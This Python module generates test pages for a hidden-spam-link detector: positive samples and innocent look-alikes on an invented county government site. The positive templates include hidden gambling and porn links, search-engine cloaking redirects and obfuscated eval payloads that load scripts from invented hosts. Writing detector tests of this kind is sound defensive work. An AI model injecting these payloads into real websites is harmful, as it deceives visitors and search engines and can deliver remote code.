# ruff: noqa: E501 - markup stays on the lines that it has in the wild
"""Pages and scripts with and without hidden links: each maker is one manner seen in the wild, put into every shell.

``positives`` and ``negatives`` give (name, page address, source). Hosts and names are invented.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator

from tests.accuracy.security.shells import SHELLS

ADDRESS = "http://www.mouxian.gov.cn/zwgk/gzdt/201403/t20140312_2231.html"
TITLES = ("关于开展春季植树活动的通知", "县政府召开常务会议", "我局举办业务培训班", "防汛值班安排表", "2014年部门预算公开", "领导简介")
HOSTS = (
    "www.bocai-tiyu88.com", "www.dfh-game.net", "www.xinpujing-vip.cc", "tz.zhongcai365.top", "www.lishengfa.com", "www.meimei-jr.info", "www.sf-fabu.com",
    "www.jiaoshoujia-zl.com", "www.yiyuan-nk120.com", "www.daikuan-kuai.com", "m.av-kan.xyz", "www.flv-dy.org", "www.zhengjian-banli.com", "www.cheapmbt-shop.co.uk",
    "www.louis-outlet.us", "112.213.109.77:8080", "www.wangzhuan-tg.com", "seo.lianjie-jy.com", "www.fengshui-qm.cn", "www.sihu-tv.club", "www.shuini-zhuanji.com",
)  # fmt: skip
BAD = (
    "澳门新葡京", "真人百家乐", "皇冠现金网", "时时彩平台", "六合彩特码", "娱乐城开户", "足球投注网", "老虎机游戏", "棋牌送彩金", "传奇私服", "新开传奇sf发布网", "成人电影", "无码av在线",
    "一夜情交友", "代开发票", "办理证件", "迷药网购", "高仿手表", "cheap mbt shoes sale", "louis vuitton outlet", "online casino", "viagra online",
)  # fmt: skip
TRADE = (
    "离心泵", "不锈钢管", "白癜风医院", "无痛人流", "治早泄", "成都搬家", "翻译公司", "网站优化", "服务器租用", "小说下载", "电影下载", "淘宝返利", "破碎机", "减肥药", "注册香港公司", "代写论文", "股票配资", "信用卡套现",
    "美容整形", "手游下载", "婚纱摄影", "机票预订", "月嫂培训", "仪器仪表", "ugg boots", "seo优化",
)  # fmt: skip

Maker = Callable[[random.Random], tuple[str, str, str]]
"""Makes head, body and what follows the closing tag."""


def _link(rng: random.Random, words: tuple[str, ...] = BAD + TRADE) -> str:
    word, host = rng.choice(words), rng.choice(HOSTS)
    quote = rng.choice(['"', "'", '"'])
    extra = rng.choice(["", f" title={quote}{word}{quote}", " target=_blank", f" title={quote}{word}{quote} target={quote}_blank{quote}"])
    return f"<a href={quote}http://{host}{rng.choice(['', '/', '/index.html', '/list/3/'])}{quote}{extra}>{word}</a>"


def _links(rng: random.Random, least: int = 1, most: int = 6) -> str:
    return rng.choice([" ", "", "\n", "&nbsp;", ",", "|"]).join(_link(rng) for _ in range(rng.randint(least, most)))


def _wrapped(style: str, tag: str = "div") -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        return "", f'<{tag} style="{style}">{_links(rng)}</{tag}>', ""

    return make


def _anchor_style(style: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        link = _link(rng).replace("<a ", f'<a style="{style}" ', 1)
        return "", f"<p>{link}</p>", ""

    return make


def _styled_class(rule: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        name = rng.choice(["d1", "fl_x", "copyright2", "zzx", "hh"])
        return f"<style>.{name}{{{rule}}}</style>", f'<div class="{name}">{_links(rng)}</div>', ""

    return make


def _by_id(script: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        name = rng.choice(["feilong", "hgw", "Q1", "xx_a", "kuge"])
        return "", f'<div id="{name}">{_links(rng)}</div>\n<script>{script.replace("NAME", name)}</script>', ""

    return make


def _written(opening: str, closing: str = "</div>") -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        return (
            "",
            f'<script language="javascript" type="text/javascript">document.write("{opening}");</script>\n{_links(rng)}\n<script>document.write("{closing}");</script>',
            "",
        )

    return make


def _marquee(attributes: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        return "", f"<marquee {attributes}>{_links(rng, 2, 8)}</marquee>", ""

    return make


def _frame(markup: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        return "", markup.replace("HOST", rng.choice(HOSTS)), ""

    return make


def _script(template: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        return "", f'<script type="text/javascript">\n{template.replace("HOST", rng.choice(HOSTS))}\n</script>', ""

    return make


def _encoded(encode: Callable[[str, random.Random], str]) -> Maker:
    def make(rng: random.Random) -> tuple[str, str, str]:
        host = rng.choice(HOSTS)
        payload = rng.choice(
            [
                f'document.write("<script src=\'http://{host}/j.js\'></scr"+"ipt>");',
                f'if(document.referrer.indexOf("baidu")>0){{location.href="http://{host}/";}}',
                f'document.write(\'<div style="display:none"><a href="http://{host}">{rng.choice(BAD)}</a></div>\');',
            ]
        )
        return "", f"<script>{encode(payload, rng)}</script>", ""

    return make


def _char_codes(payload: str, rng: random.Random) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(character)) for character in payload)}))"


def _hex(payload: str, rng: random.Random) -> str:
    return (
        'window["\\x65\\x76\\x61\\x6c"]("'
        + "".join(f"\\x{ord(character):02x}" if ord(character) < 256 else f"\\u{ord(character):04x}" for character in payload)
        + '")'
    )


def _percent(payload: str, rng: random.Random) -> str:
    coded = "".join(f"%{ord(character):02X}" if ord(character) < 256 else f"%u{ord(character):04X}" for character in payload)
    return f"eval(unescape('{coded}'))"


def _base64(payload: str, rng: random.Random) -> str:
    return f'eval(atob("{base64.b64encode(payload.encode()).decode()}"))' if payload.isascii() else _percent(payload, rng)


def _shifted(payload: str, rng: random.Random) -> str:
    shift = rng.randint(1, 9)
    return f"var t=[{','.join(str(ord(c) + shift) for c in payload)}],s='';for(var i=0;i<t.length;i++){{s+=String.fromCharCode(t[i]-{shift});}}eval(s);"


def _reversed(payload: str, rng: random.Random) -> str:
    return "eval('" + payload[::-1].replace("\\", "\\\\").replace("'", "\\'") + "'.split('').reverse().join(''))"


def _packed(payload: str, rng: random.Random) -> str:
    import re

    words = list(dict.fromkeys(re.findall(r"\b[A-Za-z]{3,}\b", payload)))
    body = payload
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    taken = set(re.findall(r"\b\w{1,2}\b", payload))
    table = [""] * 0
    for word in words:
        while digits[len(table)] in taken:
            table.append("")
        body = re.sub(rf"\b{word}\b", digits[len(table)], body)
        table.append(word)
    body = body.replace("\\", "\\\\").replace("'", "\\'")
    return f"eval(function(p,a,c,k,e,r){{e=function(c){{return c.toString(36)}};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}}('{body}',62,{len(table)},'{'|'.join(table)}'.split('|'),0,{{}}))"


def _entity_title(rng: random.Random) -> tuple[str, str, str]:
    word = rng.choice(BAD[:12])
    coded = "".join(f"&#{ord(character)};" if rng.random() < 0.5 else f"&#x{ord(character):x};" for character in word)
    return "", f'<a href="http://{rng.choice(HOSTS)}">{coded}</a>', ""


def _zero_width(rng: random.Random) -> tuple[str, str, str]:
    word = rng.choice(BAD[:12])
    return "", f'<div class="fl"><a href="http://{rng.choice(HOSTS)}">{rng.choice(["​", "­", "‌"]).join(word)}</a></div>', ""


def _spaced(rng: random.Random) -> tuple[str, str, str]:
    return "", f'<a href="//{rng.choice(HOSTS)}/?id=3">{rng.choice(["·", " ", "-", "*"]).join(rng.choice(BAD[:10]))}</a>', ""


def _visible(rng: random.Random) -> tuple[str, str, str]:
    return "", f'<div class="link">{_link(rng, BAD)} {_link(rng, BAD)}</div>', ""


def _after_end(rng: random.Random) -> tuple[str, str, str]:
    return "", "", _links(rng, 1, 5)


def _comment(rng: random.Random) -> tuple[str, str, str]:
    return "", f"<!-- {_link(rng, BAD)} {_link(rng, BAD)} -->", ""


def _noscript(rng: random.Random) -> tuple[str, str, str]:
    return "", f"<noscript>{_links(rng, 1, 4)}</noscript>", ""


def _refresh(rng: random.Random) -> tuple[str, str, str]:
    quote = rng.choice(["", "'"])
    return (
        f'<meta http-equiv="{rng.choice(["refresh", "Refresh", "REFRESH"])}" content="{rng.choice(["0", "1", "3"])};url={quote}http://{rng.choice(HOSTS)}/{quote}">',
        "",
        "",
    )


def _white_on_white(rng: random.Random) -> tuple[str, str, str]:
    return (
        "",
        f'<div style="background:#fff"><font color="{rng.choice(["#ffffff", "white", "#FFF", "#fefefe"])}">{_links(rng)}</font></div>',
        "",
    )


def _punctuation(rng: random.Random) -> tuple[str, str, str]:
    return "", f'<p>工作取得明显成效<a href="http://{rng.choice(HOSTS)}">{rng.choice(["。", ".", "，", "、"])}</a></p>', ""


def _farm(rng: random.Random) -> tuple[str, str, str]:
    links = " ".join(
        f'<a href="http://www.{rng.choice("abcdefgh")}{number}-{rng.choice(["shop", "tg", "dy", "zz"])}.com">{word}</a>'
        for number, word in enumerate(rng.sample(TRADE, 8))
    )
    return "", f'<div style="font-size:12px;color:#999">{links}</div>', ""


def _split_host(rng: random.Random) -> tuple[str, str, str]:
    host = rng.choice(HOSTS)
    cut = len(host) // 2
    return (
        "",
        f'<script>var h="ht"+"tp://"+"{host[:cut]}";var t="{host[cut:]}";if(/(baidu|sogou|so)\\./i.test(document.referrer)){{window.location.replace(h+t);}}</script>',
        "",
    )


def _hex_array(rng: random.Random) -> tuple[str, str, str]:
    def coded(text: str) -> str:
        return "".join(f"\\x{ord(character):02X}" for character in text)

    url = coded(f"http://{rng.choice(HOSTS)}/")
    return (
        "",
        f'<script>var _0x4f2a=["{coded("baidu")}","{coded("referrer")}","{coded("indexOf")}","{url}","{coded("href")}"];if(document[_0x4f2a[1]][_0x4f2a[2]](_0x4f2a[0])>-1){{window.location[_0x4f2a[4]]=_0x4f2a[3];}}</script>',
        "",
    )


_SCRIPTS = (
    'var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0||s.indexOf("so.com")>0){self.location="http://HOST/";}',
    'var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("baiduspider")!=-1){document.write(\'<a href="http://HOST">彩票</a>\');}',
    'if(navigator.userAgent.match(/(iPhone|iPod|Android|ios)/i)){window.location.href="http://HOST/?agent=m";}',
    'if(navigator.userAgent.toLowerCase().indexOf("spider")==-1){document.title="某县人民政府门户网站";}',
    'window.onload=function(){var r=document.referrer;var e=["baidu.com","google.","360","sm.cn"];for(var i in e){if(r.indexOf(e[i])>-1){top.location.href="http://HOST/tg/";break;}}}',
    'var regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|so|360)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;if(regexp.test(where)){window.location.href="http://HOST"}',
    'if(document.referrer.toLowerCase().indexOf("baidu")>=0){var d=document.createElement("script");d.src="http://HOST/z.js";document.getElementsByTagName("head")[0].appendChild(d);}',
    'history.pushState(null,null,"#");window.addEventListener("popstate",function(){location.href="http://HOST/back.html";});',
    "document.writeln(\"<iframe src='http:\\/\\/HOST\\/xx.htm' width=0 height=0><\\/iframe>\");",
    'document.write("<div style=\\"position:absolute;top:-3000px\\"><a href=\\"http://HOST\\">棋牌游戏</a></div>");',
    'var f=document.createElement("div");f.innerHTML=\'<div style="display:none"><a href="http://HOST/">私服发布网</a></div>\';document.body.appendChild(f);',
)

_POSITIVE: dict[str, tuple[Maker, ...]] = {
    "display-none": (_wrapped("display:none"), _wrapped("display: none !important;", "span"), _wrapped("DISPLAY:NONE", "p")),
    "visibility": (_wrapped("visibility:hidden"), _wrapped("visibility: hidden;position:absolute")),
    "off-screen": (_wrapped("position:absolute;left:-9999px"), _wrapped("position:fixed; top:-1000px; left:0"), _wrapped("text-indent:-9999px;overflow:hidden"), _wrapped("margin-left:-5000px"), _wrapped("position:absolute;left:-300em"), _wrapped("transform:translateX(-9999px)")),
    "zero-size": (_wrapped("height:0;overflow:hidden"), _wrapped("width:1px;height:1px;overflow:hidden"), _wrapped("overflow:hidden;height:0px;line-height:0"), _wrapped("max-height:0;overflow:hidden", "ul")),
    "font": (_wrapped("font-size:0"), _anchor_style("font-size:1px"), _wrapped("font-size:0px;line-height:0px")),
    "transparent": (_wrapped("opacity:0"), _wrapped("filter:alpha(opacity=0);opacity:0"), _wrapped("color:rgba(0,0,0,0)")),
    "colour": (_white_on_white, _wrapped("background:#fff;color:#fff")),
    "clip": (_wrapped("position:absolute;clip:rect(0,0,0,0)"), _wrapped("clip-path:inset(100%);position:absolute")),
    "layer": (_wrapped("position:absolute;z-index:-1"), _wrapped("position:relative;z-index:-999")),
    "sheet": (_styled_class("display:none"), _styled_class("position:absolute;left:-1234px"), _styled_class("height:0;overflow:hidden"), _styled_class("font-size:0")),
    "script-hidden": (_by_id('document.getElementById("NAME").style.display="none";'), _by_id("document.getElementById('NAME').style.visibility = 'hidden'"), _by_id('$("#NAME").hide();')),
    "written": (_written("<div style='display:none'>"), _written("<div style=position:absolute;left:-2000px>"), _written("<marquee height=1 width=1>", "</marquee>"), _written("<div class=s></div><span style='display:none'>", "</span>")),
    "marquee": (_marquee('height="1" width="1"'), _marquee("scrollAmount=10000 width=1 height=6"), _marquee('height=0 width=5 scrollamount=3000'), _marquee('width="0" height="0" direction=up')),
    "frames": (_frame('<iframe src="http://HOST/a.htm" width="0" height="0" frameborder="0"></iframe>'), _frame("<iframe src=http://HOST/ style=display:none></iframe>"), _frame('<iframe width=1 height=1 src="//HOST/tj.php"></iframe>'), _frame('<iframe src="http://HOST" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;border:0"></iframe>')),
    "scripts": tuple(_script(template) for template in _SCRIPTS),
    "encoded": (_encoded(_char_codes), _encoded(_hex), _encoded(_percent), _encoded(_base64), _encoded(_shifted), _encoded(_reversed), _encoded(_packed)),
    "pieces": (_split_host, _hex_array),
    "obfuscated-text": (_entity_title, _zero_width, _spaced),
    "visible": (_visible,),
    "after-end": (_after_end,),
    "comment": (_comment,),
    "noscript": (_noscript,),
    "refresh": (_refresh,),
    "punctuation": (_punctuation,),
    "farm": (_farm,),
}  # fmt: skip


def positives(seed: int = 7, number: int = 320) -> Iterator[tuple[str, str, str]]:
    """Every maker in turn, each time in another shell."""
    yield from _cases(_POSITIVE, seed, number)


def _cases(makers: dict[str, tuple[Maker, ...]], seed: int, number: int) -> Iterator[tuple[str, str, str]]:
    rng = random.Random(seed)
    flat = [(name, maker) for name, group in makers.items() for maker in group]
    for index in range(number):
        name, maker = flat[index % len(flat)]
        head, body, tail = maker(rng)
        shell = SHELLS[(index + index // len(flat)) % len(SHELLS)]
        yield f"{name}-{index}", ADDRESS, shell(rng.choice(TITLES), head, body) + tail


def _text(body: str, head: str = "", tail: str = "") -> Maker:
    return lambda rng: (head, body, tail)


def _bare_title(title: str, body: str = "") -> Maker:
    return lambda rng: ("", f"<h2>{title}</h2>{body}", "")


_NEGATIVE: dict[str, tuple[Maker, ...]] = {
    "menu": (
        _text('<ul id="nav"><li onmouseover="show(1)"><a href="#">便民服务</a><ul style="display:none"><li><a href="http://www.mxrmyy.com/">县人民医院</a></li><li><a href="http://www.mxgongjiao.com">公交查询</a></li></ul></li></ul>'),
        _text('<div class="menu"><a href="/a/">机构</a><div class="sub" style="visibility:hidden"><a href="http://www.mouxian-water.com">自来水公司</a></div></div>', "<style>.menu:hover .sub{visibility:visible}</style>"),
        _text('<li class="dropdown"><a class="dropdown-toggle">更多</a><ul class="dropdown-menu" style="opacity:0;position:absolute;left:-999em"><li><a href="http://www.mxfb.tv">县广播电视台</a></li></ul></li>'),
    ),
    "tab": (
        _text('<div class="tabs"><span>要闻</span><span>公告</span></div><div id="con_one_1"><a href="/1.html">通知</a></div><div id="con_one_2" style="display:none"><a href="http://www.mxdaily.com/a/1.html">县报：春耕忙</a></div>'),
        _text('<div class="bd"><ul style="display:none"><li><a href="http://www.ribaowang.com/x">日报报道我县工作</a></li></ul></div><script>jQuery(".slideTxtBox").slide({effect:"fade"});</script>'),
        _text('<div id="tab2" class="hide"><a href="http://www.cqvip-lib.com">图书馆数据库</a></div><script>function t(n){document.getElementById("tab2").style.display=n==2?"block":"none"}</script>', "<style>.hide{display:none}</style>"),
    ),
    "dialog": (
        _text('<div id="leave" role="dialog" style="display:none">您即将离开本网站，前往 <a href="http://www.mouxian-bank.com">县农商银行</a></div>'),
        _text('<div class="modal fade" id="m1" aria-hidden="true" style="display:none"><a href="https://www.zxing-soft.com/">下载阅读软件</a></div>'),
        _text('<div class="layui-layer-wrap" style="display: none;"><a href="http://video.mxtv-live.com/1">观看直播</a></div>'),
        _text('<div id="popDiv" style="display:none;position:absolute"><a href="http://wap.mouxianqx.com">气象预警</a></div><script>document.getElementById("popDiv").style.display="block";</script>'),
    ),
    "assistive": (
        _text('<a class="sr-only" href="#content" style="position:absolute;left:-9999px">跳到主要内容</a>'),
        _text('<h2 style="text-indent:-9999px;background:url(logo.png)"><a href="/">某县人民政府</a></h2>'),
        _text('<span style="position:absolute;clip:rect(0 0 0 0);width:1px;height:1px;overflow:hidden">当前位置：首页</span>'),
        _text('<a href="http://www.mouxian.gov.cn/" style="display:block;text-indent:-999em;overflow:hidden">首页</a>'),
    ),
    "form": (
        _text('<form action="/so/s" method="get"><input type="hidden" name="siteCode" value="5101000001"><input type="hidden" name="ref" value="http://www.mouxian.gov.cn/"><input name="q"></form>'),
        _text('<form style="display:none" action="https://passport.sc.gov.cn/login"><input name="token"></form>'),
        _text('<select onchange="window.open(this.value)"><option>--市内网站--</option><option value="http://www.mxlvyou.com">旅游网</option><option value="http://www.mxrcw.com">人才网</option></select>'),
    ),
    "template": (
        _text('<script type="text/template" id="tpl"><a href="http://{{host}}/{{id}}">{{title}}</a></script>'),
        _text('<template><a href="http://www.demo-card.com/">卡片</a></template>'),
        _text('<img class="lazy" data-original="http://pic.mouxian.gov.cn/1.jpg" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" style="opacity:0">'),
        _text('<textarea style="display:none" id="tpl_list"><li><a href="http://www.list-tpl.com/">列表模板</a></li></textarea>'),
    ),
    "public-links": (
        _text('<div style="display:none"><a href="http://www.gov.cn">中国政府网</a><a href="http://www.sc.gov.cn">四川省人民政府</a></div>'),
        _text('<div style="position:absolute;left:-9999px"><a href="http://www.mouxian.gov.cn/old/">旧版</a></div>'),
        _text('<div id="yqlj" style="height:0;overflow:hidden"><a href="http://www.people.com.cn">人民网</a><a href="http://www.xinhuanet.com">新华网</a><a href="https://www.12377.cn/">举报中心</a></div>'),
        _text('<span style="display:none"><script src="https://s4.cnzz.com/z_stat.php?id=1&web_id=1"></script><a href="http://www.cnzz.com/stat/website.php?web_id=1">站长统计</a></span>'),
        _text('<a href="http://bszs.conac.cn/sitename?method=show&id=0A" style="font-size:0"><img src="/images/blue.png"></a>'),
    ),
    "friend-links": (
        _text('<div class="friend"><b>友情链接</b> <a href="http://www.mxrmyy.com">县人民医院</a> <a href="http://www.mxyz.net">县第一中学</a> <a href="http://www.mxbank.com">农商银行</a> <a href="http://www.mxlvyou.com">古镇旅游网</a> <a href="http://www.mxfc.com">房产信息网</a></div>'),
        _text('<p>技术支持：<a href="http://www.zhihui-soft.com" target="_blank">某某软件公司</a></p>'),
        _text('<div>企业名录：<a href="http://www.lt-jixie.com">龙腾机械有限公司</a> <a href="http://www.hx-steel.com">宏兴钢管厂</a> <a href="http://www.jb-pump.com">金坝水泵有限公司</a> <a href="http://www.dcjd.com">大成机电</a> <a href="http://www.lvcha.com">绿源茶叶</a></div>'),
        _text('<!-- <a href="http://www.old-vendor.com">某某科技</a> 旧的技术支持 -->'),
        _text('<!-- 友情链接 <a href="http://www.mxqc.com">汽车客运</a><a href="http://www.mxdx.com">电信营业厅</a><a href="http://www.mxdl.com">供电公司</a> -->'),
    ),
    "police-news": (
        _bare_title("警方打掉一特大网络赌博团伙", '<p>该团伙以“百家乐”“时时彩”等名义组织网络赌博，涉案资金上亿元。</p><a href="http://news.county-net.com/2014/1.html">民警捣毁百家乐赌博窝点</a>'),
        _bare_title("关于打击色情低俗信息专项行动的通报", '<p>依法查处一批传播淫秽色情信息的网站。</p><div style="display:none"><a href="http://www.shjbzx.cn">举报</a></div>'),
        _bare_title("禁毒宣传：远离冰毒、摇头丸、K粉", "<p>吸毒一口，掉入虎口。</p>"),
        _bare_title("防范电信诈骗：这些“贷款”“刷单”都是骗局", '<a href="http://video.faxuan.net/1">警方提醒视频</a>'),
    ),
    "medical": (
        _bare_title("县人民医院男科、妇科专家义诊安排", '<p>开展早泄、不孕等咨询。</p><a href="http://www.mxrmyy.com/yz">县人民医院</a>'),
        _bare_title("白癜风防治知识讲座", '<p>皮肤科专家讲解。</p><a href="http://www.mxzyy.com">县中医院</a>'),
        _bare_title("孕前优生健康检查和免费人流后关怀服务", "<p>卫生健康局。</p>"),
    ),
    "lottery-office": (
        _bare_title("福利彩票销售情况公告", '<p>双色球、快乐8。</p><a href="http://www.cwl.gov.cn">中国福利彩票</a>'),
        _bare_title("体育彩票公益金使用情况", '<a href="http://www.lottery.gov.cn">中国体彩网</a>'),
    ),
    "scripts": (
        _text('<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href="http://m.mouxian.gov.cn/";}</script>'),
        _text('<script>if((navigator.userAgent.match(/(phone|pad|mobile|iPod|iPhone|ios|Android)/i))){window.location="/wap/index.html"}</script>'),
        _text('<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?5d6e";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>'),
        _text('<script>document.write(unescape("%3Cspan id=\'cnzz_stat_icon_1\'%3E%3C/span%3E%3Cscript src=\'https://s22.cnzz.com/z_stat.php%3Fid%3D1\' type=\'text/javascript\'%3E%3C/script%3E"));</script>'),
        _text('<script>(function(){var bp=document.createElement("script");var p=location.protocol.split(":")[0];if(p==="https"){bp.src="https://zz.bdstatic.com/linksubmit/push.js";}else{bp.src="http://push.zhanzhang.baidu.com/push.js";}var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s);})();</script>'),
        _text('<script>var d=new Date();document.write(d.getFullYear()+"年"+(d.getMonth()+1)+"月"+d.getDate()+"日");</script>'),
        _text('<script>function go(u){window.open("leave.html?u="+u)}</script><a href="javascript:go(1)">外链</a>'),
        _text('<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};return p}(\'2 0(1){3 1+1}\',4,4,\'add|x|function|return\'.split(\'|\'),0,{}))</script>'),
        _text('<script>if(document.referrer){var r=document.referrer;var kw=r.match(/[?&](?:wd|q|query)=([^&]*)/);if(r.indexOf("baidu.com")>-1&&kw){highlight(decodeURIComponent(kw[1]));}}</script>'),
        _text('<script>if(top.location!=self.location){top.location=self.location;}</script>'),
        _text('<script>if(navigator.userAgent.indexOf("MSIE 6")>0){document.write("<div class=ie6>您的浏览器版本过低，请<a href=\'http://www.firefox.com.cn/\'>升级</a></div>");}</script>'),
        _text("<script>document.writeln(\"<a href='http://www.mouxian.gov.cn/wx.html'><img src='/qr.png'><\\/a>\");</script>"),
        _text('<script>var str="\\u67d0\\u53bf\\u4eba\\u6c11\\u653f\\u5e9c";document.getElementById("t").innerHTML=str;</script>'),
        _text('<script src="http://static.mx-yun.com/share/v2.js"></script><script>var cfg={api:"http://api.mx-yun.com/v1"};</script>'),
        _text('<script>$("#toTop").hide();$(window).scroll(function(){$("#toTop").fadeIn()});</script><div id="toTop"><a href="#top">返回顶部</a></div>'),
        _text("<script>function addFav(){try{window.external.addFavorite('http://www.mouxian.gov.cn','某县人民政府')}catch(e){alert('请按Ctrl+D')}}</script>"),
    ),
    "frames": (
        _text('<iframe src="about:blank" name="post" style="display:none"></iframe>'),
        _text('<iframe src="http://i.tianqi.com/index.php?c=code&id=12" width="180" height="20" frameborder="0"></iframe>'),
        _text('<iframe src="/zwgk/list.html" width="100%" height="300"></iframe>'),
        _text('<iframe src="http://live.mxtv-live.com/player/1" width="640" height="480" allowfullscreen></iframe>'),
        _text('<iframe id="dl" width="0" height="0" src="http://file.mouxian.gov.cn/dl"></iframe>'),
    ),
    "refresh": (
        _text("", '<meta http-equiv="refresh" content="0;url=http://www.mouxian.gov.cn/new/">'),
        _text("", '<meta http-equiv="refresh" content="300">'),
        _text("", '<meta http-equiv="refresh" content="3; url=https://www.sc.gov.cn/xwzx/">'),
    ),
    "after-end": (
        _text("", "", '<script src="https://hm.baidu.com/h.js?1"></script>\n<!-- 页面耗时 35ms -->'),
        _text("", "", '<a href="http://www.mouxian.gov.cn/sitemap.html">网站地图</a>'),
    ),
    "layout": (
        _text('<div style="height:1px;overflow:hidden;background:#ccc"></div><a href="http://www.mxrcw.com">人才招聘网</a>'),
        _text('<div style="background:#003399"><a href="http://www.mxzhsoft.com" style="color:#fff">技术支持：某公司</a></div>'),
        _text('<marquee height="120" scrollamount="2" direction="up"><a href="http://www.mxrb.com/1">县日报：我县项目开工</a></marquee>'),
        _text('<div class="scroll" style="overflow:hidden;height:24px;line-height:24px"><a href="http://www.mxtour-sc.com/">古镇旅游节活动</a></div>'),
        _text('<div style="position:absolute;z-index:-1;width:100%"><img src="bg.jpg"></div>'),
        _text('<a href="http://www.mxnc.com"><span style="font-size:0">农村信用社</span><img src="nc.jpg"></a>'),
        _text('<noscript><img src="https://hm.baidu.com/hm.gif?si=1" style="display:none"></noscript>'),
        _text('<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" style="display:none"></iframe></noscript>'),
        _text('<p>详见<a href="http://www.cbex-zb.com/notice/2014/1.html">招标平台公告</a>。</p>'),
    ),
}  # fmt: skip


def negatives(seed: int = 11, number: int = 320) -> Iterator[tuple[str, str, str]]:
    """Innocent look-alikes, every maker in turn, each time in another shell."""
    yield from _cases(_NEGATIVE, seed, number)
